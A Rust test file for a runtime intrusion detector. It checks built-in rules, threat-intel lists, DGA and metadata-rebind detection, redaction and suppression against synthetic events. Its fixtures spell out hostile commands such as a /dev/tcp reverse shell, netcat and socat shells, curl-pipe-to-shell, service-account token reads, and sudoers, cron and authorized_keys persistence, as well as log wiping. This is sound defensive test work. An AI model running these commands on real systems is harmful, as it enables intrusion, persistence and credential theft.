@@ -1,0 +1,816 @@
+//! Table tests of the detector on synthetic events: every built-in rule, benign look-alikes,
+//! reputation types, DGA, metadata rebind, aggregation, redaction and suppression.
+
+use std::{collections::BTreeSet, net::SocketAddr, path::PathBuf, sync::Arc};
+
+use vigil_crds::suppression_rule::parse_rules_file;
+use vigil_detection::{
+    FindingType, Indicator, IndicatorKind, IntelBuilder, ListFormat, SharedIntel, ThreatIntel,
+};
+
+use super::*;
+use crate::event::{
+    Ancestor, DnsAnswer, DnsInfo, DnsQuestion, ExecInfo, ExitInfo, NetInfo, ProcessRef,
+};
+
+pub(crate) const SHA_BAD: [u8; 32] = [0xab; 32];
+
+/// A test intel snapshot: one list per reputation type (names `t-<n>`), a trusted range.
+pub(crate) fn test_intel() -> ThreatIntel {
+    let mut b = IntelBuilder::new();
+    let ip_lists: &[(&str, FindingType)] = &[
+        ("127.66.0.1", FindingType::BackdoorCcActivityB),
+        ("127.66.0.2", FindingType::CryptoCurrencyBitcoinToolB),
+        ("127.66.0.3", FindingType::UnauthorizedAccessTorClient),
+        ("127.66.0.4", FindingType::TrojanBlackholeTraffic),
+        ("127.66.0.5", FindingType::TrojanDropPoint),
+        ("127.66.0.6", FindingType::UnauthorizedAccessTorRelay),
+        ("127.66.1.0/24", FindingType::BackdoorCcActivityB),
+    ];
+    for (i, (ip, t)) in ip_lists.iter().enumerate() {
+        let id = b
+            .add_list(
+                &format!("ip-{i}"),
+                ListFormat::PlainText(IndicatorKind::Ip),
+                vec![*t],
+                "test",
+            )
+            .unwrap();
+        b.insert(id, &Indicator::Ip(ip.parse().unwrap())).unwrap();
+    }
+    for (i, (domain, t)) in dns_cases().iter().enumerate() {
+        let id = b
+            .add_list(
+                &format!("dom-{i}"),
+                ListFormat::PlainText(IndicatorKind::Domain),
+                vec![*t],
+                "test",
+            )
+            .unwrap();
+        b.insert(id, &Indicator::Domain((*domain).into())).unwrap();
+    }
+    let id = b
+        .add_list(
+            "bad-hashes",
+            ListFormat::PlainText(IndicatorKind::Sha256),
+            vec![FindingType::ExecutionMaliciousFileExecuted],
+            "test",
+        )
+        .unwrap();
+    b.insert(id, &Indicator::Sha256(SHA_BAD)).unwrap();
+    let trusted = b.add_trusted_list("office", "test").unwrap();
+    b.insert_trusted(trusted, "127.66.1.128/25".parse().unwrap());
+    b.build()
+}
+
+fn dns_cases() -> Vec<(&'static str, FindingType)> {
+    vec![
+        ("c2.test", FindingType::BackdoorCcActivityBDns),
+        ("pool.test", FindingType::CryptoCurrencyBitcoinToolBDns),
+        ("sink.test", FindingType::TrojanBlackholeTrafficDns),
+        ("drop.test", FindingType::TrojanDropPointDns),
+        ("driveby.test", FindingType::TrojanDriveBySourceTrafficDns),
+        ("phish.test", FindingType::TrojanPhishingDomainRequestDns),
+        (
+            "abused.test",
+            FindingType::ImpactAbusedDomainRequestReputation,
+        ),
+        (
+            "coins.test",
+            FindingType::ImpactBitcoinDomainRequestReputation,
+        ),
+        (
+            "malicious.test",
+            FindingType::ImpactMaliciousDomainRequestReputation,
+        ),
+        (
+            "suspicious.test",
+            FindingType::ImpactSuspiciousDomainRequestReputation,
+        ),
+    ]
+}
+
+fn detector_with(suppression: Vec<CompiledRule>) -> Detector {
+    Detector::new(
+        Arc::new(SharedIntel::new(test_intel())),
+        Some(DgaModel::builtin().unwrap()),
+        RuleSet::builtin().unwrap(),
+        suppression,
+        DetectorConfig {
+            host: HostDetails {
+                hostname: "node-a".into(),
+                ..HostDetails::default()
+            },
+            users: [(1000, "alice".to_owned())].into_iter().collect(),
+            ..DetectorConfig::default()
+        },
+        Clock::with_offset(1_700_000_000_000_000_000),
+    )
+}
+
+fn detector() -> Detector {
+    detector_with(Vec::new())
+}
+
+fn process(pid: u32, uid: u32, euid: u32, comm: &str) -> ProcessRef {
+    ProcessRef {
+        pid,
+        tid: pid,
+        ppid: 100,
+        uid,
+        gid: uid,
+        euid,
+        egid: uid,
+        comm: comm.into(),
+        cgroup_id: 1,
+        pid_ns: 1,
+        mnt_ns: 1,
+        start_time_ns: u64::from(pid) * 1000,
+        uuid: format!("uuid-{pid}"),
+    }
+}
+
+/// An exec of `argv` (argv[0] names the program) by uid/euid under a parent named `parent`.
+fn exec_as(argv: &[&str], parent: &str, uid: u32, euid: u32) -> Event {
+    let program = argv[0];
+    let exe = if program.starts_with('/') {
+        PathBuf::from(program)
+    } else {
+        PathBuf::from("/usr/bin").join(program)
+    };
+    let comm: String = super::basename(program).chars().take(15).collect();
+    Event::Exec(Box::new(ExecInfo {
+        time: "2026-11-27T10:00:00Z".into(),
+        process: process(4242, uid, euid, &comm),
+        filename: exe.display().to_string(),
+        exe: exe.clone(),
+        argv: argv.iter().map(|a| (*a).to_owned()).collect(),
+        argv_truncated: false,
+        cwd: Some(PathBuf::from("/home/alice")),
+        cwd_truncated: false,
+        exe_inode: 1,
+        exe_dev: 1,
+        sha256: Some(crate::exe_hash::Digest([1; 32])),
+        sha256_error: None,
+        lineage: vec![
+            Ancestor {
+                pid: 100,
+                ppid: 1,
+                comm: parent.into(),
+                exe: Some(PathBuf::from("/usr/sbin").join(parent)),
+                uuid: "uuid-100".into(),
+            },
+            Ancestor {
+                pid: 1,
+                ppid: 0,
+                comm: "systemd".into(),
+                exe: Some(PathBuf::from("/usr/lib/systemd/systemd")),
+                uuid: "uuid-1".into(),
+            },
+        ],
+        fileless: false,
+        exe_deleted: false,
+        written_by: None,
+        stdio_sockets: Vec::new(),
+        ld_preload: None,
+        ld_library_path: None,
+        env_truncated: false,
+        setuid: uid != euid,
+    }))
+}
+
+fn exec(argv: &[&str]) -> Event {
+    exec_as(argv, "bash", 1000, 1000)
+}
+
+fn rule_ids(d: &mut Detector, event: &Event) -> Vec<String> {
+    d.process(event, &NoLookup)
+        .into_iter()
+        .map(|o| {
+            o.finding
+                .context
+                .additional
+                .get("ruleId")
+                .cloned()
+                .unwrap_or_else(|| o.finding.finding_type.clone())
+        })
+        .collect()
+}
+
+/// (argv, parent, uid, euid, expected rule ids). Every built-in rule appears at least once.
+fn exec_table() -> Vec<(Vec<&'static str>, &'static str, u32, u32, Vec<&'static str>)> {
+    let user = |argv: Vec<&'static str>, want: Vec<&'static str>| (argv, "bash", 1000, 1000, want);
+    vec![
+        user(vec!["nmap", "-sS", "10.0.0.0/24"], vec!["tool-nmap"]),
+        user(vec!["masscan", "-p80", "10.0.0.0/8"], vec!["tool-masscan"]),
+        user(
+            vec!["sqlmap", "-u", "http://x/?id=1"],
+            vec!["tool-web-scanner"],
+        ),
+        user(vec!["john", "hashes.txt"], vec!["tool-password-cracker"]),
+        user(
+            vec!["hydra", "-l", "root", "ssh://h"],
+            vec!["tool-brute-forcer"],
+        ),
+        user(vec!["mimipenguin"], vec!["tool-credential-dumper"]),
+        user(
+            vec!["/bin/sh", "/tmp/linpeas.sh", "-a"],
+            vec!["tool-privesc-enumeration-script"],
+        ),
+        user(vec!["/bin/sh", "/tmp/build.sh"], vec![]),
+        user(vec!["/tmp/linpeas.sh"], vec!["tool-privesc-enumeration"]),
+        user(vec!["peirates"], vec!["tool-container-escape-kit"]),
+        user(
+            vec!["chisel", "client", "h:8080", "R:socks"],
+            vec!["tool-tunnel"],
+        ),
+        user(vec!["msfconsole", "-q"], vec!["tool-c2-framework"]),
+        user(
+            vec!["nc", "-e", "/bin/sh", "h", "4444"],
+            vec!["tool-netcat-exec"],
+        ),
+        user(vec!["nc", "-lvp", "4444"], vec![]),
+        user(
+            vec!["socat", "TCP:h:4444", "EXEC:/bin/bash"],
+            vec!["tool-socat-exec"],
+        ),
+        user(vec!["socat", "TCP-LISTEN:80", "TCP:h:8080"], vec![]),
+        user(vec!["tor", "-f", "torrc"], vec!["tool-tor"]),
+        user(
+            vec!["xmrig", "--config", "c.json"],
+            vec!["miner-known-binary"],
+        ),
+        user(
+            vec!["/tmp/.x/kworker", "-o", "stratum+tcp://pool:3333"],
+            vec!["miner-stratum-url"],
+        ),
+        user(vec!["sh", "-c", "./m -o stratum+tcp://pool:3333"], vec![]),
+        user(
+            vec!["/tmp/syslogd", "--donate-level=1", "-a", "rx/0"],
+            vec!["miner-cli-options"],
+        ),
+        case(
+            "nginx",
+            33,
+            33,
+            vec!["sh", "-i"],
+            vec!["shell-from-network-service"],
+        ),
+        case("nginx", 33, 33, vec!["sh", "-c", "ls /var/www"], vec![]),
+        case("sshd", 1000, 1000, vec!["bash", "-l"], vec![]),
+        user(
+            vec!["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
+            vec!["exec-download-pipe-shell"],
+        ),
+        user(vec!["sh", "-c", "curl -fsSL http://x/i.sh -o i.sh"], vec![]),
+        user(
+            vec!["bash", "-c", "echo aGk= | base64 -d | bash"],
+            vec!["exec-base64-pipe-shell"],
+        ),
+        user(
+            vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+            vec!["exec-dev-tcp"],
+        ),
+        user(
+            vec!["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
+            vec!["exec-interpreter-pty-spawn"],
+        ),
+        user(vec!["python3", "-c", "print(1)"], vec![]),
+        user(vec!["/dev/shm/x"], vec!["exec-binary-from-shm"]),
+        user(
+            vec!["bash", "-c", "history -c"],
+            vec!["evasion-clear-history"],
+        ),
+        user(vec!["bash", "-c", "history | tail"], vec![]),
+        user(
+            vec!["shred", "-u", "/var/log/auth.log"],
+            vec!["evasion-wipe-logs"],
+        ),
+        user(vec!["rm", "-rf", "/var/log/"], vec!["evasion-wipe-logs"]),
+        user(vec!["rm", "-f", "/var/log/app/old.log.1"], vec![]),
+        user(vec!["iptables", "-F"], vec!["evasion-flush-firewall"]),
+        user(vec!["iptables", "-t", "nat", "-F", "DOCKER"], vec![]),
+        user(vec!["setenforce", "0"], vec!["evasion-disable-security"]),
+        user(
+            vec!["systemctl", "stop", "auditd"],
+            vec!["evasion-disable-security"],
+        ),
+        user(vec!["systemctl", "stop", "nginx"], vec![]),
+        user(
+            vec!["sh", "-c", "echo /tmp/x.so > /etc/ld.so.preload"],
+            vec!["evasion-ld-preload-file"],
+        ),
+        user(
+            vec!["find", "/", "-perm", "-4000", "-type", "f"],
+            vec!["discovery-suid-search"],
+        ),
+        user(vec!["find", ".", "-name", "*.rs"], vec![]),
+        user(
+            vec!["getcap", "-r", "/"],
+            vec!["discovery-capability-search"],
+        ),
+        user(
+            vec!["curl", "http://169.254.169.254/latest/meta-data/"],
+            vec!["discovery-cloud-metadata"],
+        ),
+        user(vec!["curl", "https://example.com/"], vec![]),
+        user(
+            vec!["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
+            vec!["discovery-service-account-token"],
+        ),
+        user(
+            vec![
+                "sh",
+                "-c",
+                "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
+            ],
+            vec!["persistence-authorized-keys"],
+        ),
+        user(vec!["sh", "-c", "cat ~/.ssh/authorized_keys"], vec![]),
+        user(
+            vec![
+                "sh",
+                "-c",
+                "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
+            ],
+            vec!["persistence-cron-write"],
+        ),
+        user(vec!["crontab", "-l"], vec![]),
+        user(
+            vec!["sh", "-c", "echo /tmp/x >> /etc/rc.local"],
+            vec!["persistence-boot-script"],
+        ),
+        user(
+            vec!["systemctl", "enable", "/tmp/evil.service"],
+            vec!["persistence-systemd-unit-from-tmp"],
+        ),
+        user(vec!["systemctl", "enable", "nginx"], vec![]),
+        user(vec!["chmod", "u+s", "/tmp/sh"], vec!["privesc-setuid-bit"]),
+        user(vec!["chmod", "4755", "/tmp/sh"], vec!["privesc-setuid-bit"]),
+        user(vec!["chmod", "0755", "/tmp/sh"], vec![]),
+        user(vec!["chmod", "u+x", "script.sh"], vec![]),
+        user(
+            vec!["setcap", "cap_setuid+ep", "/tmp/python3"],
+            vec!["privesc-dangerous-capability"],
+        ),
+        user(
+            vec!["setcap", "cap_net_bind_service+ep", "/usr/bin/app"],
+            vec![],
+        ),
+        user(
+            vec![
+                "sh",
+                "-c",
+                "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
+            ],
+            vec!["privesc-sudoers-write"],
+        ),
+        user(
+            vec!["usermod", "-aG", "docker", "alice"],
+            vec!["privesc-privileged-group"],
+        ),
+        user(vec!["usermod", "-aG", "video", "alice"], vec![]),
+        user(
+            vec!["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
+            vec!["privesc-nsenter-init"],
+        ),
+        user(
+            vec!["docker", "run", "--privileged", "-it", "alpine"],
+            vec!["privesc-privileged-container"],
+        ),
+        user(vec!["docker", "run", "--rm", "alpine", "true"], vec![]),
+        case(
+            "bash",
+            1000,
+            0,
+            vec!["/tmp/rootme"],
+            vec!["elevation-setuid-root"],
+        ),
+        case("bash", 1000, 0, vec!["sudo", "-i"], vec![]),
+        case("bash", 0, 0, vec!["/tmp/rootme"], vec![]),
+        // Ordinary work.
+        user(vec!["cargo", "build", "--release"], vec![]),
+        user(vec!["gcc", "-O2", "-o", "a.out", "a.c"], vec![]),
+        user(vec!["ls", "-la", "/var/log"], vec![]),
+        user(vec!["apt-get", "install", "-y", "curl"], vec![]),
+        user(vec!["sh", "-c", "for i in 1 2 3; do echo $i; done"], vec![]),
+        user(vec!["git", "clone", "https://example.com/r.git"], vec![]),
+    ]
+}
+
+/// A case with a given parent and uids.
+fn case(
+    parent: &'static str,
+    uid: u32,
+    euid: u32,
+    argv: Vec<&'static str>,
+    want: Vec<&'static str>,
+) -> (Vec<&'static str>, &'static str, u32, u32, Vec<&'static str>) {
+    (argv, parent, uid, euid, want)
+}
+
+#[test]
+fn every_builtin_rule_fires_on_its_case_and_not_on_the_benign_ones() {
+    let mut covered = BTreeSet::new();
+    for (argv, parent, uid, euid, want) in exec_table() {
+        let mut d = detector();
+        let got = rule_ids(&mut d, &exec_as(&argv, parent, uid, euid));
+        assert_eq!(
+            got, want,
+            "{argv:?} (parent {parent}, uid {uid}, euid {euid})"
+        );
+        covered.extend(got);
+    }
+    let all: BTreeSet<String> = RuleSet::builtin()
+        .unwrap()
+        .rules()
+        .iter()
+        .map(|r| r.id.clone())
+        .collect();
+    let missing: Vec<_> = all.difference(&covered).collect();
+    assert!(
+        missing.is_empty(),
+        "rules without a firing case: {missing:?}"
+    );
+}
+
+#[test]
+fn exec_finding_has_process_context_and_redacted_command() {
+    let mut d = detector();
+    let out = d.process(
+        &exec(&[
+            "hydra",
+            "-l",
+            "root",
+            "-p",
+            "x",
+            "--password=hunter2",
+            "ssh://h",
+        ]),
+        &NoLookup,
+    );
+    assert_eq!(out.len(), 1);
+    let f = &out[0].finding;
+    assert!(out[0].new);
+    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousTool");
+    assert_eq!(f.severity, 7.0);
+    assert_eq!(f.severity_label, SeverityLabel::High);
+    assert_eq!(f.schema_version, "1.0");
+    assert_eq!(f.resource.display_name, "node-a");
+    assert_eq!(f.resource_role, ResourceRole::Actor);
+    assert_eq!(f.count, 1);
+    assert_eq!(f.event_first_seen.0.to_string(), "2026-11-27T10:00:00Z");
+    let cmd = f.context.command_line_example.as_deref().unwrap();
+    assert!(!cmd.contains("hunter2"), "{cmd}");
+    assert!(cmd.contains("--password=[REDACTED]"), "{cmd}");
+    assert_eq!(f.context.tool_name.as_deref(), Some("brute-forcer"));
+    assert_eq!(f.context.additional["mitreTechniques"], "T1110.001");
+    let p = f.process.as_ref().unwrap();
+    assert_eq!(p.executable_path, "/usr/bin/hydra");
+    assert_eq!(p.user.as_deref(), Some("alice"));
+    assert_eq!(p.pwd.as_deref(), Some("/home/alice"));
+    assert_eq!(p.parent_uuid.as_deref(), Some("uuid-100"));
+    assert_eq!(
+        p.lineage
+            .iter()
+            .map(|l| l.name.as_str())
+            .collect::<Vec<_>>(),
+        ["bash", "systemd"]
+    );
+    assert_eq!(p.lineage[0].parent_uuid.as_deref(), Some("uuid-1"));
+    assert!(!f.description.contains("hunter2"));
+}
+
+#[test]
+fn repeats_aggregate_into_one_finding() {
+    let mut d = detector();
+    let first = d.process(&exec(&["nmap", "-sS", "h"]), &NoLookup);
+    let mut later = exec(&["nmap", "-sV", "h2"]);
+    if let Event::Exec(e) = &mut later {
+        e.time = "2026-11-27T10:05:00Z".into();
+    }
+    let second = d.process(&later, &NoLookup);
+    assert!(first[0].new && !second[0].new);
+    assert_eq!(first[0].finding.id, second[0].finding.id);
+    assert_eq!(second[0].finding.count, 2);
+    assert_eq!(
+        second[0].finding.event_last_seen.0.to_string(),
+        "2026-11-27T10:05:00Z"
+    );
+    assert_eq!(
+        second[0].finding.event_first_seen.0.to_string(),
+        "2026-11-27T10:00:00Z"
+    );
+    // Another tool is another finding.
+    let other = d.process(&exec(&["masscan", "h"]), &NoLookup);
+    assert!(other[0].new);
+    assert_ne!(other[0].finding.id, first[0].finding.id);
+    assert_eq!(d.stats().new_findings, 2);
+    assert_eq!(d.stats().repeats, 1);
+}
+
+#[test]
+fn malicious_file_by_sha256() {
+    let mut d = detector();
+    let mut e = exec(&["/tmp/payload"]);
+    if let Event::Exec(x) = &mut e {
+        x.sha256 = Some(crate::exe_hash::Digest(SHA_BAD));
+    }
+    let out = d.process(&e, &NoLookup);
+    assert_eq!(out.len(), 1);
+    let f = &out[0].finding;
+    assert_eq!(f.finding_type, "Execution:Runtime/MaliciousFileExecuted");
+    let ev = &f.evidence.as_ref().unwrap().threat_intelligence_details[0];
+    assert_eq!(ev.threat_list_name, "bad-hashes");
+    assert_eq!(ev.indicator, "ab".repeat(32));
+    assert!(d.process(&exec(&["/tmp/payload"]), &NoLookup).is_empty());
+}
+
+fn connect(pid: u32, remote: &str, error: Option<&str>) -> Event {
+    Event::Connect(NetInfo {
+        time: "2026-11-27T10:00:00Z".into(),
+        process: process(pid, 1000, 1000, "curl"),
+        ret: 0,
+        error: error.map(str::to_owned),
+        fd: 3,
+        family: "inet",
+        protocol: "tcp",
+        remote: Some(remote.parse::<SocketAddr>().unwrap()),
+        unix_path: None,
+    })
+}
+
+#[test]
+fn connects_raise_the_types_their_lists_feed() {
+    let table: &[(&str, Option<&str>)] = &[
+        ("127.66.0.1:443", Some("Backdoor:Runtime/C&CActivity.B")),
+        (
+            "127.66.0.2:3333",
+            Some("CryptoCurrency:Runtime/BitcoinTool.B"),
+        ),
+        (
+            "127.66.0.3:9001",
+            Some("UnauthorizedAccess:Runtime/TorClient"),
+        ),
+        ("127.66.0.4:80", Some("Trojan:Runtime/BlackholeTraffic")),
+        ("127.66.0.5:21", Some("Trojan:Runtime/DropPoint")),
+        // A relay-only list does not fire on an outbound connect.
+        ("127.66.0.6:9001", None),
+        ("127.66.1.7:443", Some("Backdoor:Runtime/C&CActivity.B")),
+        // Trusted range inside the listed /24.
+        ("127.66.1.200:443", None),
+        ("127.0.0.1:443", None),
+        (
+            "[::ffff:127.66.0.1]:443",
+            Some("Backdoor:Runtime/C&CActivity.B"),
+        ),
+    ];
+    for (remote, want) in table {
+        let mut d = detector();
+        let got: Vec<String> = d
+            .process(&connect(77, remote, None), &NoLookup)
+            .into_iter()
+            .map(|o| o.finding.finding_type)
+            .collect();
+        assert_eq!(
+            got,
+            want.iter().map(|s| s.to_string()).collect::<Vec<_>>(),
+            "{remote}"
+        );
+    }
+    let mut d = detector();
+    let out = d.process(
+        &connect(77, "127.66.0.1:443", Some("ECONNREFUSED")),
+        &NoLookup,
+    );
+    let f = &out[0].finding;
+    let n = f.network.as_ref().unwrap();
+    assert_eq!((n.remote_ip.as_str(), n.remote_port), ("127.66.0.1", 443));
+    assert_eq!(n.protocol, "TCP");
+    assert_eq!(f.context.additional["connectResult"], "ECONNREFUSED");
+    assert_eq!(
+        f.evidence.as_ref().unwrap().threat_intelligence_details[0].threat_list_name,
+        "ip-0"
+    );
+}
+
+#[test]
+fn accept_from_a_tor_node_is_a_relay() {
+    let mut d = detector();
+    let mut e = connect(78, "127.66.0.6:5555", None);
+    if let Event::Connect(n) = e {
+        e = Event::Accept(n);
+    }
+    let out = d.process(&e, &NoLookup);
+    assert_eq!(out.len(), 1);
+    assert_eq!(
+        out[0].finding.finding_type,
+        "UnauthorizedAccess:Runtime/TorRelay"
+    );
+    assert_eq!(
+        out[0]
+            .finding
+            .network
+            .as_ref()
+            .unwrap()
+            .connection_direction,
+        vigil_crds::finding::ConnectionDirection::Inbound
+    );
+}
+
+fn dns(pid: u32, direction: &'static str, name: &str, answer: Option<&str>) -> Event {
+    Event::Dns(DnsInfo {
+        time: "2026-11-27T10:00:00Z".into(),
+        process: process(pid, 1000, 1000, "resolver"),
+        direction,
+        protocol: "udp",
+        resolver: "127.0.0.53:53".parse().unwrap(),
+        id: Some(1),
+        rcode: answer.map(|_| "NOERROR".into()),
+        questions: vec![DnsQuestion {
+            name: name.into(),
+            qtype: "A".into(),
+        }],
+        answers: answer
+            .map(|a| {
+                vec![DnsAnswer {
+                    name: name.into(),
+                    rtype: if a.contains(':') { "AAAA" } else { "A" }.into(),
+                    ttl: 60,
+                    data: a.into(),
+                }]
+            })
+            .unwrap_or_default(),
+        truncated: false,
+        parse_error: None,
+    })
+}
+
+#[test]
+fn dns_queries_raise_the_types_their_lists_feed() {
+    for (domain, t) in dns_cases() {
+        let mut d = detector();
+        let name = format!("www.{domain}");
+        let out = d.process(&dns(90, "query", &name, None), &NoLookup);
+        assert_eq!(out.len(), 1, "{name}");
+        assert_eq!(out[0].finding.finding_type, t.as_str());
+        assert_eq!(out[0].finding.dns.as_ref().unwrap().domain, name);
+        // The answer to the same query adds nothing.
+        assert!(
+            d.process(&dns(90, "answer", &name, Some("127.0.0.9")), &NoLookup)
+                .is_empty()
+        );
+    }
+    let mut d = detector();
+    assert!(
+        d.process(&dns(90, "query", "example.com", None), &NoLookup)
+            .is_empty()
+    );
+    assert!(
+        d.process(&dns(90, "query", "notc2.test", None), &NoLookup)
+            .is_empty()
+    );
+}
+
+#[test]
+fn dga_needs_several_names_from_one_process() {
+    let names = [
+        "xjo4vk9bk1f19hxz.net",
+        "qwzx8vj3kq1p7rlt.com",
+        "zk3j9vq8xw2m4plr.org",
+    ];
+    let mut d = detector();
+    let mut got = Vec::new();
+    for n in names {
+        got.push(d.process(&dns(91, "query", n, None), &NoLookup));
+    }
+    assert!(
+        got[0].is_empty() && got[1].is_empty(),
+        "below the threshold"
+    );
+    assert_eq!(got[2].len(), 1);
+    let f = &got[2][0].finding;
+    assert_eq!(f.finding_type, "Trojan:Runtime/DGADomainRequest.C!DNS");
+    assert_eq!(f.context.additional["dgaDomains"], names.join(","));
+    // Spread over three processes: nothing.
+    let mut d = detector();
+    for (i, n) in names.iter().enumerate() {
+        assert!(
+            d.process(&dns(200 + i as u32, "query", n, None), &NoLookup)
+                .is_empty()
+        );
+    }
+    // Ordinary names from one process: nothing.
+    let mut d = detector();
+    for n in [
+        "github.com",
+        "crates.io",
+        "static.crates.io",
+        "index.crates.io",
+        "deb.debian.org",
+    ] {
+        assert!(
+            d.process(&dns(92, "query", n, None), &NoLookup).is_empty(),
+            "{n}"
+        );
+    }
+    // The counter goes with the process.
+    let mut d = detector();
+    d.process(&dns(93, "query", names[0], None), &NoLookup);
+    d.process(&dns(93, "query", names[1], None), &NoLookup);
+    d.process(
+        &Event::Exit(ExitInfo {
+            time: "2026-11-27T10:00:00Z".into(),
+            process: process(93, 1000, 1000, "resolver"),
+            exit_status: Some(0),
+            signal: None,
+        }),
+        &NoLookup,
+    );
+    assert!(
+        d.process(&dns(93, "query", names[2], None), &NoLookup)
+            .is_empty()
+    );
+}
+
+#[test]
+fn metadata_rebind_on_answers() {
+    let table: &[(&str, &str, bool)] = &[
+        ("rebind.attacker.test", "169.254.169.254", true),
+        ("rebind6.attacker.test", "fd00:ec2::254", true),
+        ("metadata.google.internal", "169.254.169.254", false),
+        ("rebind.attacker.test", "127.0.0.1", false),
+    ];
+    for (name, ip, want) in table {
+        let mut d = detector();
+        assert!(
+            d.process(&dns(94, "query", name, None), &NoLookup)
+                .is_empty()
+        );
+        let out = d.process(&dns(94, "answer", name, Some(ip)), &NoLookup);
+        assert_eq!(out.len(), usize::from(*want), "{name} -> {ip}");
+        if *want {
+            assert_eq!(
+                out[0].finding.finding_type,
+                "UnauthorizedAccess:Runtime/MetadataDNSRebind"
+            );
+            assert_eq!(out[0].finding.dns.as_ref().unwrap().domain, *name);
+        }
+    }
+}
+
+#[test]
+fn connect_after_an_answer_names_the_domain() {
+    let mut d = detector();
+    d.process(
+        &dns(95, "answer", "cc.example", Some("127.66.0.1")),
+        &NoLookup,
+    );
+    let out = d.process(&connect(95, "127.66.0.1:443", None), &NoLookup);
+    assert_eq!(
+        out[0]
+            .finding
+            .network
+            .as_ref()
+            .unwrap()
+            .remote_domain
+            .as_deref(),
+        Some("cc.example")
+    );
+}
+
+#[test]
+fn suppression_archives_and_keeps() {
+    let rules = parse_rules_file(
+        "suppress.yaml",
+        "apiVersion: vigil.dev/v1alpha1\nkind: SuppressionRule\nmetadata: {name: pentest-box}\nspec:\n  criteria:\n    criterion:\n      type: {equals: ['Execution:Runtime/SuspiciousTool']}\n      process.executablePath: {matches: ['/usr/bin/nm*']}\n",
+    )
+    .unwrap();
+    let mut d = detector_with(rules);
+    let out = d.process(&exec(&["nmap", "h"]), &NoLookup);
+    assert!(out[0].finding.archived);
+    assert_eq!(out[0].archived_by.as_deref(), Some("pentest-box"));
+    let again = d.process(&exec(&["nmap", "h"]), &NoLookup);
+    assert!(again[0].finding.archived);
+    assert_eq!(again[0].finding.count, 2);
+    let other = d.process(&exec(&["masscan", "h"]), &NoLookup);
+    assert!(!other[0].finding.archived);
+    assert_eq!(d.stats().archived, 1);
+}
+
+#[test]
+fn events_without_findings_and_unknown_processes_are_harmless() {
+    let mut d = detector();
+    let mut e = connect(96, "127.66.0.1:443", None);
+    if let Event::Connect(n) = &mut e {
+        n.family = "unix";
+        n.remote = None;
+        n.unix_path = Some("/run/x.sock".into());
+    }
+    assert!(d.process(&e, &NoLookup).is_empty());
+    // A connect by a process whose exec was not seen: the process is still described.
+    let out = d.process(&connect(97, "127.66.0.1:443", None), &NoLookup);
+    let p = out[0].finding.process.as_ref().unwrap();
+    assert_eq!((p.pid, p.name.as_str()), (97, "curl"));
+    assert!(p.executable_path.is_empty());
+}
